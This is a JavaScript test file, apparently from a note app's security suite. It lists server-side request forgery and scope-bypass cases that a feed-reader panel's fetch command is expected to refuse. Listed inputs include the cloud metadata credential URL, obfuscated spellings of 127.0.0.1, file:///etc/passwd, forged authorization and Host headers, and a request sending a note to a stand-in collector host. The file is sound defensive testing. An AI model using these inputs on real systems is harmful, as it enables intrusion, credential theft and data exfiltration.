// What the panel of the feed reader sends. A body that ran would be a connection to the other program of this machine.

import { inVault } from "./ask.js";
import { allowed, aborted, notPermitted, refused } from "./expect.js";
import { FETCH, abortedAtFirst, asSpelled, byFetch } from "./load.js";

const asked = (id, title, url, expect, why, { send = byFetch, ...init } = {}) => ({ id, title, command: FETCH, args: { url, ...init }, expect, why, send });
const spelled = (id, title, url, expect, why, more = {}) => asked(id, title, url, expect, why, { ...more, send: asSpelled });

/** `feeds` and `other` are origins on this machine: the server of sample feeds, and a program that nobody named. `machine` is its name. */
export function attacksOnFeeds({ feeds, other, machine }) {
  const port = new URL(other).port;
  const outside = refused("url.outside-scope");
  return [
    {
      group: "Where it points",
      attacks: [
        asked("feed", "For comparison: a feed that an entry names", `${feeds}/feeds/walks.xml`, { ...allowed, body: 0 }, "This address, this port, this folder."),
        asked("moved", "For comparison: one that moved within scope", `${feeds}/feeds/moved.xml`, { ...allowed, body: 0 }, "The new address is judged from the start, and is in scope."),
        asked("metadata", "Where a cloud hands out credentials", "http://169.254.169.254/latest/meta-data/iam/", outside, "Any host is in scope, but of the public network only. The log says `url.network`."),
        asked("other", "Another program on this machine", `${other}/feeds/walks.xml`, outside, "The entry for this machine names one port, and this is another."),
        asked("localhost", "The same by the name localhost", `http://localhost:${port}/feeds/walks.xml`, outside, "A name for this machine is as much this machine as its address."),
        asked("folder", "Another folder of the feeds' server", `${feeds}/drafts/walks.xml`, outside, "It exists, and the entry names `/feeds/*`."),
        asked("router", "The router of the house", "http://192.168.0.1/status.xml", outside, "A private network is not the public one."),
        asked("machine", "A name that leads to this machine", `http://${machine}:${port}/feeds/walks.xml`, refused("connect.failed"), "The name is judged as any other; then its addresses are, before anything is connected to. The log says `connect.network`."),
        asked("denied", "A host that is denied", "https://pixel.tracker.example/feed.xml", outside, "Every public host is allowed, this one denied: the deny wins. The page is not told which."),
      ],
    },
    {
      group: "How it is spelled",
      attacks: [
        ...[
          ["decimal", "as one number", "2130706433"],
          ["octal", "in octal", "0177.0.0.1"],
          ["hexadecimal", "in hexadecimal", "0x7f.0.0.1"],
          ["short", "in short", "127.1"],
          ["mapped", "inside an IPv6 address", "[::ffff:127.0.0.1]"],
          ["full-width", "in wide digits", "１２７.０.０.１"],
        ].map(([id, how, host]) => spelled(id, `127.0.0.1 ${how}`, `http://${host}:${port}/feeds/walks.xml`, outside, "However it is spelled, it is brought to one form, and that is judged.")),
        spelled("user", "A user's name that looks like the host", `https://feeds.example@127.0.0.1:${port}/`, refused("url.credentials"), "The host stands behind the `@`; no entry takes what stands before."),
        spelled("backslash", "A backslash in the host", `https://feeds.example\\@127.0.0.1:${port}/`, refused("url.backslash"), "Some read it as a slash, and others go on to another host. Refused as such."),
        spelled("escaped", "An escape in the host", "http://127%2e0%2e0%2e1/", refused("url.host"), "No server is called so, and what undoes escapes late would be led elsewhere."),
        spelled("dots", "Up and out with encoded dots", `${feeds}/feeds/%2e%2e/drafts/walks.xml`, refused("url.encoded-dots"), "Some servers go up there and others do not."),
        asked("file", "A file of the system", "file:///etc/passwd", outside, "A URL, but no server: wildcards never reach `file:`."),
        asked("relative", "No host at all", "/feeds/walks.xml", outside, "The page's own origin, `tauri://localhost`, is in no scope."),
      ],
    },
    {
      group: "Where the server sends us",
      attacks: [
        asked("to-metadata", "A feed that redirects to credentials", `${feeds}/feeds/to-metadata.xml`, outside, "Each redirect is judged as the first URL was. The log says at which stage."),
        asked("to-other", "One that redirects to another program", `${feeds}/feeds/to-other.xml`, outside, "Not followed: that program hears nothing."),
      ],
    },
    {
      group: "What is sent, and what comes back",
      attacks: [
        asked("post", "Write to a feed", `${feeds}/feeds/walks.xml`, outside, "A grant for `GET` is none for `POST`.", { method: "POST", body: "note" }),
        asked("authorization", "A header with a secret", `${feeds}/feeds/walks.xml`, refused("request.header"), "No entry names `authorization` in its `headers`.", { headers: { authorization: "Basic Zm9yZ2Vk" } }),
        spelled("host-header", "The name of another host", `${feeds}/feeds/walks.xml`, refused("request.header"), "`Host` is the connection's own. No entry could grant it.", { headers: { host: "intranet" } }),
        asked("proxy", "A proxy of the page's choosing", `${feeds}/feeds/walks.xml`, outside, "A proxy is a destination of its own, and judged as one.", { proxy: other }),
        asked("too-long", "A response that is too long", `${feeds}/feeds/too-long.xml`, refused("response.too-long"), "The entry says `maxBytes`, and reading ends there."),
        asked("endless", "A feed without an end, aborted", `${feeds}/feeds/endless.xml`, aborted, "The connection is closed at once: what nobody reads is not loaded.", { send: abortedAtFirst }),
      ],
    },
    {
      group: "Around the feed reader",
      attacks: [
        { id: "note", title: "Read a note", command: "read_note", args: { note: inVault("Welcome.md") }, expect: notPermitted, why: "This window may ask the network, and so may name no note." },
        { id: "decisions", title: "Read the decisions log", command: "plugin:authority|recent_decisions", args: {}, expect: notPermitted, why: "The log names what the page was not told." },
      ],
    },
  ];
}

/** In the editor and the reader: who may name notes may not ask the network. */
export const fetched = () => asked("fetch", "Send a note away", "https://collector.example/?note=Dear+Nora", notPermitted, "This window may name notes, and so may ask no server.");
